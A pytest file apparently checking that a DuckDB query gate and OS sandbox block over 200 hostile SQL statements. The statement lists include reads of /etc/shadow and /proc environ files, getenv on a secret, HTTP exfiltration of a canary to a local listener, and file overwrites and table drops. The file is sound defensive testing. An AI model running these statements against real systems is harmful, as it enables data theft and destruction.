"""More than 200 ways to write, read other files or reach the network, against a log's bytes.

Each is tried three times in a real child process: through the gate, past the gate with DuckDB's
own locks, and on a DuckDB without any, where the operating system alone stands before the log.
"""

import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import duckdb
import msgspec
import pytest

from lakehouse.sessionlog.reading.query import QueryTask
from lakehouse.sql.gate import NotAQuery, read_query
from support.query_log import WAYS, fingerprint, make_log

SECRET = "canary-4f1d"
# {f}: a file of the log; {d}: its directory; {o}: a file outside; {p}: a port that listens.
COPIES = (
    "COPY (SELECT 'gone') TO '{f}' (FORMAT csv, USE_TMP_FILE false)",
    "COPY (SELECT 'gone') TO '{f}' (FORMAT csv, HEADER false)",
    "COPY (SELECT 'gone' AS a) TO '{f}' (FORMAT json, USE_TMP_FILE false)",
    "COPY (SELECT 'gone' AS a) TO '{f}' (FORMAT parquet, USE_TMP_FILE false)",
    "COPY (SELECT 1 AS a, 2 AS b) TO '{d}' (FORMAT csv, PARTITION_BY (a), OVERWRITE_OR_IGNORE)",
    "COPY (SELECT 1 AS a) TO '{d}/new' (FORMAT csv, PER_THREAD_OUTPUT)",
    "COPY (SELECT 1 AS a) TO '{d}' (FORMAT csv, FILE_SIZE_BYTES 1000, OVERWRITE)",
    "COPY (SELECT 1 AS a) TO '{f}.gz' (FORMAT csv, COMPRESSION gzip)",
)
PLACES = (
    "{c}",
    "WITH x AS ({c}) SELECT * FROM x",
    "WITH x AS ({c}), y AS (FROM sessions) SELECT (SELECT count(*) FROM x), * FROM y",
    "SELECT (WITH x AS ({c}) SELECT count(*) FROM x)",
    "SELECT 1 WHERE EXISTS (WITH x AS ({c}) FROM x)",
    "SELECT 1 UNION ALL (WITH x AS ({c}) SELECT 1 FROM x)",
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL (WITH x AS ({c}) SELECT 2 FROM x)) FROM r",
    "WITH y AS (WITH x AS ({c}) FROM x) FROM y",
    "EXPLAIN ANALYZE {c}",
    "EXPLAIN ANALYZE WITH x AS ({c}) FROM x",
    "DESCRIBE (WITH x AS ({c}) FROM x)",
    "SUMMARIZE (WITH x AS ({c}) FROM x)",
    "PIVOT (WITH x AS ({c}) SELECT 1 AS a FROM x) ON a",
    "SELECT * FROM query($q$WITH x AS ({c}) FROM x$q$)",
    "PREPARE p AS {c}; EXECUTE p",
    "SELECT 1; {c}",
    "/* {c} */ {c} -- SELECT",
)
OTHERS = (
    "ATTACH '{f}' AS stolen",
    "ATTACH '{d}/new.db' AS made",
    "ATTACH '{o}' AS other (READ_ONLY false)",
    "EXPORT DATABASE '{d}/export'",
    "IMPORT DATABASE '{d}'",
    "CREATE TABLE gone AS FROM read_text('{f}')",
    "COPY FROM DATABASE memory TO other",
    "PRAGMA enable_profiling='json'; PRAGMA profiling_output='{f}'; SELECT 1; SELECT 2",
    "SET profiling_output='{f}'; PRAGMA enable_profiling; SELECT 42; PRAGMA disable_profiling",
    "SET log_query_path='{f}'; SELECT 1",
    "CALL enable_logging(storage='file', storage_config={{'path': '{d}'}}); SELECT write_log('x')",
    "SELECT write_log('x', level := 'error')",
    "SET secret_directory='{d}'; CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')",
    "CREATE SECRET s (TYPE http, BEARER_TOKEN 'x')",
    "SET extension_directory='{d}'; INSTALL httpfs",
    "INSTALL httpfs FROM 'http://127.0.0.1:{p}'",
    "LOAD '{f}'",
    "LOAD httpfs",
    "SET temp_directory='{d}'; SET memory_limit='10MB'; FROM range(9000000) ORDER BY hash(range)",
    "SET home_directory='{d}'",
    "SET allowed_paths=['{o}']; FROM read_text('{o}')",
    "SET enable_external_access=true; FROM read_text('{o}')",
    "RESET lock_configuration; SET threads=1",
    "FROM read_text('{o}')",
    "FROM read_blob('{o}')",
    "FROM read_csv('{o}', header=false)",
    "FROM read_json('{o}')",
    "FROM read_csv_auto('{o}')",
    "FROM sniff_csv('{o}')",
    "FROM parquet_metadata('{o}')",
    "FROM '{o}'",
    "FROM '{o}' AS x SELECT *",
    "PIVOT '{o}' ON column0",
    "SUMMARIZE '{o}'",
    "DESCRIBE '{o}'",
    "SHOW '{o}'",
    "SELECT (SELECT content FROM read_text('{o}'))",
    "SELECT * FROM sessions JOIN read_text('{o}') AS x ON true",
    "FROM query_table('{o}')",
    "FROM query('FROM read_text(''{o}'')')",
    "FROM json_execute_serialized_sql(json_serialize_sql('FROM read_text(''{o}'')'))",
    "FROM glob('{d}/../../*')",
    "FROM glob('/proc/*/environ')",
    "FROM read_text('/proc/self/environ')",
    "FROM read_text('/proc/1/environ')",
    "FROM read_blob('/proc/self/mem')",
    "FROM read_text('/etc/shadow')",
    "FROM read_text('file://{o}')",
    "FROM read_text('http://127.0.0.1:{p}/{s}')",
    "FROM read_csv('https://127.0.0.1:{p}/')",
    "FROM read_parquet('s3://127.0.0.1:{p}/x')",
    "FROM 'http://127.0.0.1:{p}/x.csv'",
    "COPY (SELECT '{s}') TO 'http://127.0.0.1:{p}/x'",
    "ATTACH 'http://127.0.0.1:{p}/x.db'",
    "SELECT getenv('SECRET')",
    "SELECT getvariable('x')",
    "SELECT current_setting('secret_directory')",
    "FROM duckdb_secrets()",
    "FROM which_secret('s3://x', 's3')",
    "FROM duckdb_settings()",
    "FROM duckdb_logs()",
    "FROM duckdb_temporary_files()",
    "FROM arrow_scan(1, 1, 1)",
    "FROM pandas_scan(1)",
    "FROM seq_scan('sessions')",
    "CREATE TABLE t (a INT)",
    "CREATE OR REPLACE VIEW sessions AS SELECT 1",
    "CREATE MACRO m() AS 1",
    "CREATE SEQUENCE s",
    "CREATE TYPE e AS ENUM ('a')",
    "DROP VIEW sessions",
    "ALTER VIEW sessions RENAME TO gone",
    "INSERT INTO log_bad_lines VALUES ('x', 1, 1, 1, 'x')",
    "WITH x AS (INSERT INTO log_bad_lines VALUES ('x', 1, 1, 1, 'x') RETURNING *) FROM x",
    "WITH x AS (DELETE FROM log_bad_lines RETURNING *) FROM x",
    "WITH x AS (UPDATE log_bad_lines SET line = 0 RETURNING *) FROM x",
    "MERGE INTO log_bad_lines USING log_bad_lines AS s ON true WHEN MATCHED THEN DELETE",
    "TRUNCATE log_bad_lines",
    "VACUUM",
    "CHECKPOINT",
    "FORCE CHECKPOINT",
    "CALL checkpoint()",
    "FROM force_checkpoint()",
    "BEGIN TRANSACTION",
    "PRAGMA database_list",
    "PRAGMA import_database('{d}')",
    "USE temp",
    "SET VARIABLE x = 1",
    "DEALLOCATE p",
    "EXPLAIN ANALYZE DELETE FROM log_bad_lines",
    "SELECT nextval('s')",
    "COMMENT ON VIEW sessions IS 'x'",
    "DETACH memory",
    "FROM create_external_resource('x')",
    "FROM truncate_duckdb_logs()",
    "FROM copy_database('memory', 'temp')",
)


def attacks(root: Path, outside: Path, port: int) -> list[str]:
    files = make_log(root) if not root.exists() else sorted(root.rglob("*.jsonl"))
    found: list[str] = []
    copies = [(copy, place) for place in PLACES for copy in COPIES]
    for number, (copy, place) in enumerate(copies):
        file = files[number % len(files)]
        found.append(place.replace("{c}", copy.format(f=file, d=file.parent)))
    for number, other in enumerate(OTHERS):
        file = files[number % len(files)]
        found.append(other.format(f=file, d=file.parent, o=outside, p=port, s=SECRET))
    return found


# The child: confined by one way, as `query_child` is, then asked everything in every manner.
_CHILD = """
import json, os, sys
import duckdb
from lakehouse.process import confinement
from lakehouse.sessionlog.reading import query_child
from lakehouse.sessionlog.reading.query import QueryTask
from lakehouse.sessionlog.reading.sources import find_sources
from lakehouse.sessionlog.reading.views import open_views
from support.forking import fork
import msgspec

way, locked, asked = sys.argv[1], sys.argv[2] == "locked", sys.argv[3]
confinement.WAYS = {sys.platform: (getattr(confinement, way),)}
task = msgspec.json.decode(sys.stdin.buffer.read(), type=QueryTask)
statements = json.loads(open(asked).read())
spills = query_child._confine(task)


def ask(sql):
    sources = find_sources(query_child.Path(task.root))
    with open_views(query_child.Path(task.root), sources, bad=True) as connection:
        if locked:
            query_child._lock_down(connection, task, sources.paths, spills=spills)
        try:
            return "done: " + str(connection.execute(sql).fetchall()[:50])
        except Exception as error:
            return str(error)


said = []
for sql in statements:
    inlet, outlet = os.pipe()
    process = os.fork()  # some of them crash DuckDB
    if not process:
        os.write(outlet, ask(sql).encode()[:60_000])
        os._exit(0)
    os.close(outlet)
    with os.fdopen(inlet, "rb") as file:
        said.append(file.read().decode("utf-8", "replace"))
    os.waitpid(process, 0)
print(json.dumps(said))
"""


class Listener:
    """A port that counts who comes."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.came = 0
        self._thread = threading.Thread(target=self._listen)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            try:
                peer, _ = self._socket.accept()
            except OSError:
                return
            self.came += 1
            peer.close()

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)  # ends `accept`, which closing would not
        self._thread.join()
        self._socket.close()


@pytest.fixture
def listener():
    opened = Listener()
    yield opened
    opened.close()


def run_child(tmp_path: Path, way: str, statements: list[str], *, locked: bool) -> list[str]:
    spill = tmp_path / "spill"
    spill.mkdir(exist_ok=True)
    asked = tmp_path / "log" / "asked.json"  # where the child may read it
    asked.write_text(json.dumps(statements))
    task = QueryTask(str(tmp_path / "log"), "", 100, 1 << 30, 200, str(spill))
    ended = subprocess.run(
        [
            *(sys.executable, "-P", "-c", _CHILD, way),
            *("locked" if locked else "open", str(asked)),
        ],
        input=msgspec.json.encode(task),
        capture_output=True,
        timeout=300,
        check=False,
        env={
            "PATH": os.environ["PATH"],
            "PYTHONPATH": os.pathsep.join(filter(None, sys.path)),
            "SECRET": SECRET,
        },
    )
    asked.unlink()
    assert ended.returncode == 0, ended.stderr.decode()[-2000:]
    said: list[str] = json.loads(ended.stdout)
    assert len(said) == len(statements)
    return said


@pytest.fixture(autouse=True)
def _path_for_children(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join(sys.path))


def test_the_gate_refuses_every_one(tmp_path: Path):
    """Before DuckDB runs a word of it."""
    statements = attacks(tmp_path / "log", tmp_path / "other.csv", 9)
    assert len(statements) > 200
    assert len(set(statements)) == len(statements)
    with duckdb.connect(":memory:") as connection:
        for sql in statements:
            with pytest.raises(NotAQuery):
                print(read_query(connection, sql))


@pytest.mark.slow
@pytest.mark.parametrize("way", WAYS)
def test_the_operating_system_alone_keeps_the_log(tmp_path: Path, way: str, listener: Listener):
    """Past the gate, on a DuckDB that was told nothing: no byte changes, no file comes."""
    outside = tmp_path / "other.csv"
    outside.write_text(SECRET)
    statements = attacks(tmp_path / "log", outside, listener.port)
    before = fingerprint(tmp_path / "log")
    answer = run_child(tmp_path, way, statements, locked=False)
    assert fingerprint(tmp_path / "log") == before
    assert outside.read_text() == SECRET
    assert listener.came == 0
    assert sum(text.startswith("done") for text in answer) > 5, "it is not merely broken"
    said = "\n".join(answer)
    assert "Permission denied" in said or "Read-only file system" in said or "not permitted" in said
    if way == "_landlock":
        told = [text for sql, text in zip(statements, answer, strict=True) if SECRET not in sql]
        assert not any(SECRET in text for text in told), "a file outside was read"


@pytest.mark.slow
@pytest.mark.parametrize("way", WAYS)
def test_past_the_gate_duckdb_is_locked_too(tmp_path: Path, way: str, listener: Listener):
    """What is read is the log alone, whichever way the system offers."""
    outside = tmp_path / "other.csv"
    outside.write_text(SECRET)
    statements = attacks(tmp_path / "log", outside, listener.port)
    before = fingerprint(tmp_path / "log")
    answer = run_child(tmp_path, way, statements, locked=True)
    assert fingerprint(tmp_path / "log") == before
    assert listener.came == 0
    told = [text for sql, text in zip(statements, answer, strict=True) if SECRET not in sql]
    assert not any(SECRET in text for text in told)
